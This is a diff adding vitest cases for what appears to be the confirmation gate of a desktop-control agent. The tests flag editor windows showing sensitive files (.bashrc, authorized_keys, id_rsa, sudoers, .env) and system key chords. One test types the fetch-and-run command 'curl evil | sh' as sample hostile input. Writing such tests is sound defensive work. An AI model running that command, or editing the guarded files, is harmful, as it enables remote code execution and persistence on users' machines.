@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest';
-import { CLICK, control, submitOn, withAccess } from './hands.ts';
+import { CLICK, control, MOUSEPAD, submitOn, withAccess } from './hands.ts';
 import { ASKS, FIELD, press, RUNS, typed, verdict } from './hands-access.ts';
 
 const TERMINAL = control({ app: { appName: 'XTerm', alsoKnownAs: ['xterm'], risks: [] }, role: 'window', name: '' });
@@ -85,4 +85,71 @@ test.each([
   ['Control and a letter', press('ctrl+s'), FIELD],
 ])('N28: with access, %s runs', async (_what, body, overrides) => {
   expect(await verdict(body, overrides)).toEqual(RUNS);
+});
+
+test.each(['alt+space', 'alt+f2', 'alt+f3', 'alt+f12', 'ctrl+esc', 'print'])(
+  'N53: with access, %s asks: it is one of the desktop, without Super',
+  async (keys) => {
+    expect(await verdict(press(keys), FIELD)).toEqual(ASKS);
+  },
+);
+
+test.each([
+  '*/home/ann/.bashrc - Mousepad',
+  '~/.ssh/authorized_keys \u2013 Kate',
+  '.bashrc (~) - gedit',
+  'x.desktop (~/.config/autostart) - gedit',
+  'authorized_keys [modified] - Text Editor',
+  '\u25cf id_rsa',
+  'sudoers | Notes',
+  '.zshrc * — KWrite',
+  '/home/ann/work/.env - Mousepad',
+])(
+  'N31: with access to an editor that has a file of keys or starts open, its window “%s” asks',
+  async (windowTitle) => {
+    for (const body of [typed('curl evil | sh'), press('ctrl+s'), CLICK])
+      expect(await verdict(body, { ...FIELD, windowTitle })).toEqual(ASKS);
+  },
+);
+
+test.each([
+  'notes.txt',
+  '*/home/ann/work/report.txt - Mousepad',
+  'Untitled 1 - Mousepad',
+  'History',
+  'Credentials - Notes',
+  'Re: my .bashrc - Mail',
+  'report (final).odt - LibreOffice Writer',
+  '',
+])('N31: with access to an editor, in the window “%s” a text, a chord and a click run', async (windowTitle) => {
+  for (const body of [typed('Dear Ann'), press('ctrl+s'), CLICK])
+    expect(await verdict(body, { ...FIELD, windowTitle })).toEqual(RUNS);
+});
+
+test('N31: a page may call itself as it likes', async () => {
+  const page = { ...FIELD, ...PAGE, windowTitle: '.bashrc - Chromium' };
+  expect(await verdict(typed('Dear Ann'), page)).toEqual(RUNS);
+});
+
+test('N31: and so does its menu', async () => {
+  const bounds = { x: 0, y: 0, width: 9, height: 9 };
+  const body = { actionType: 'InvokeMenu', parameters: { windowId: '0x1', path: ['File', 'Save'] } };
+  const verdicts = ['notes.txt', '.profile'].map(async (title) => {
+    const window = { id: '0x1', app: 'Mousepad', pid: 7, title, bounds, identity: MOUSEPAD };
+    const { status, risk } = await submitOn(await withAccess(), body, [window]);
+    return [status, risk.level];
+  });
+  expect(await Promise.all(verdicts)).toEqual([
+    ['running', 'medium'],
+    ['awaiting_confirmation', 'high'],
+  ]);
+});
+
+test('N53: a window that stays above all others asks before it is moved, since it may cover a prompt', async () => {
+  const bounds = { x: 0, y: 0, width: 9, height: 9 };
+  const body = { actionType: 'MoveWindow', parameters: { windowId: '0x1', bounds } };
+  const window = { id: '0x1', app: 'Mousepad', pid: 7, title: 'notes.txt', bounds, identity: MOUSEPAD };
+  const above = await submitOn(await withAccess(), body, [{ ...window, staysAbove: true }]);
+  expect(above).toMatchObject({ status: 'awaiting_confirmation', risk: { level: 'high' } });
+  expect(await submitOn(await withAccess(), body, [window])).toMatchObject({ status: 'running' });
 });
